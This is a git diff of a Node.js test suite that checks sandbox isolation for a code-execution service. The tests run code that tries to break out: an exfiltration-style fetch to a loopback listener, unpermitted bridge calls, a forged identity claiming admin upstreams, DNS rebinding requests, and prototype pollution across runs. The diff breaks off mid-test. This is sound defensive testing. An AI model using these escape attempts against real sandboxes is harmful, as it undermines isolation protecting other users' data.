@@ -6,22 +6,13 @@ import assert from "node:assert/strict";
 import { request } from "node:http";
 import { createServer } from "node:net";
 import { setTimeout as sleep } from "node:timers/promises";
-import { after, before, describe, test } from "node:test";
+import { describe, test } from "node:test";
 
-import { connectTypeScript, execute } from "./mcp.mjs";
-import { freePort, startStack } from "./stack.mjs";
+import { execute, useStackAndClient } from "./mcp.mjs";
+import { freePort } from "./stack.mjs";
 
 describe("sandbox isolation", () => {
-  let stack;
-  let client;
-  before(async () => {
-    stack = await startStack();
-    client = await connectTypeScript(stack.url);
-  });
-  after(async () => {
-    await client?.close();
-    stack?.stop();
-  });
+  const running = useStackAndClient();
 
   test("code cannot reach a loopback listener by fetch or by socket, and the listener receives nothing", async () => {
     const port = await freePort();
@@ -32,7 +23,7 @@ describe("sandbox isolation", () => {
     });
     await new Promise((ok) => listener.listen(port, "127.0.0.1", ok));
     try {
-      const report = await execute(client, `
+      const report = await execute(running.client, `
 const attempts: Record<string, string> = {};
 try {
   const response = await fetch("http://127.0.0.1:${port}/exfiltrate?secret=1");
@@ -60,14 +51,14 @@ return attempts;`);
   });
 
   test("the isolate's env holds only the bridge", async () => {
-    const report = await execute(client, `
+    const report = await execute(running.client, `
 const { env } = await import("cloudflare:workers");
 return { keys: Object.keys(env), names: Object.getOwnPropertyNames(env) };`);
     assert.deepEqual(report.result, { keys: ["BRIDGE"], names: ["BRIDGE"] });
   });
 
   test("the bridge answers callTool only: every other method is refused", async () => {
-    const report = await execute(client, `
+    const report = await execute(running.client, `
 const { env } = await import("cloudflare:workers");
 const bridge = env.BRIDGE as any;
 const outcomes: Record<string, string> = {};
@@ -92,7 +83,7 @@ return outcomes;`);
   });
 
   test("a forged identity passed to the bridge is ignored: the grant comes from the runner's props", async () => {
-    const report = await execute(client, `
+    const report = await execute(running.client, `
 const { env } = await import("cloudflare:workers");
 const bridge = env.BRIDGE as any;
 const forged = { session: "someone-else", upstreams: ["everything", "inventory", "admin"] };
@@ -114,7 +105,7 @@ return {
   });
 
   test("a request for a foreign host (DNS rebinding) or from a foreign origin is refused with 403", async () => {
-    const url = new URL(stack.url);
+    const url = new URL(running.stack.url);
     const initialize = JSON.stringify({
       jsonrpc: "2.0", id: 1, method: "initialize",
       params: { protocolVersion: "2025-11-25", capabilities: {}, clientInfo: { name: "rebind", version: "1" } },
@@ -143,13 +134,13 @@ return {
   });
 
   test("nothing one execution leaves behind is seen by the next", async () => {
-    const first = await execute(client, `
+    const first = await execute(running.client, `
 (globalThis as any).leftBehind = "secret";
 (Object.prototype as any).polluted = true;
 (everything as any).get_sum = async () => "hijacked";
 return "planted";`);
     assert.equal(first.isError, true, "namespace objects are frozen, so the hijack throws");
-    const second = await execute(client, `
+    const second = await execute(running.client, `
 return {
   global: typeof (globalThis as any).leftBehind,
   prototype: typeof ({} as any).polluted,
